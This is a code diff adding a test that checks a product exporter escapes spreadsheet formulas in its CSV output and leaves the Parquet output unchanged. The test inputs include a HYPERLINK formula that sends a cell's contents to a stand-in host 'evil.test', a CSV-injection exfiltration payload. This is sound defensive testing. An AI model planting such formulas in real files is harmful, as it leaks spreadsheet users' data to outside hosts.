@@ -61,6 +61,26 @@ def test_a_folder_that_cannot_be_written_is_named(home, tmp_path):
         assert reason in ended.error
 
 
+def test_a_spreadsheet_finds_no_formula_in_the_csv_and_the_parquet_file_is_unchanged(
+    tmp_path, tiny_clip
+):
+    formulas = ["=1+1", '=HYPERLINK("http://evil.test/?x="&A1,"click")', "@SUM(1)", "+1", "-2+3"]
+    rows = [
+        {"id": formula, "title": formula, "brand": formula, "category": "a=b", "price": 5}
+        for formula in formulas
+    ]
+    home = shop.build(tmp_path / "home", tiny_clip, rows)
+    export_products(home, "tiny", tmp_path / "export")
+    with (tmp_path / "export" / "products.csv").open(newline="") as file:
+        listed = list(csv.DictReader(file))
+    table = parquet.read_table(tmp_path / "export" / "products.parquet").to_pylist()
+    assert {row["title"] for row in table} == set(formulas)
+    for name in ("id", "title", "brand", "text"):
+        assert [row[name] for row in listed] == [f"'{row[name]}" for row in table]
+    assert {row["category"] for row in listed} == {"a=b"}
+    assert {row["price"] for row in listed} == {"5"}
+
+
 def test_one_category_is_exported_and_an_unknown_one_is_an_error(home, tmp_path):
     assert export_products(home, "tiny", tmp_path, category="Beauty")["products"] == 6
     with pytest.raises(IngestError, match="“Toys”; there are Appliances, Beauty"):
